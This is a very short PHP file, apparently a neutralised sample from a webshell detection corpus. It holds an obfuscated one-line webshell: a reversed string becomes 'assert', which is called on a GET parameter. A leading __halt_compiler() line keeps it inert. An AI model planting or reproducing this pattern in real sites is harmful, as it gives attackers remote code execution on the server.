<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
$fs = strrev('tressa');
$fs(@$_GET['1']);
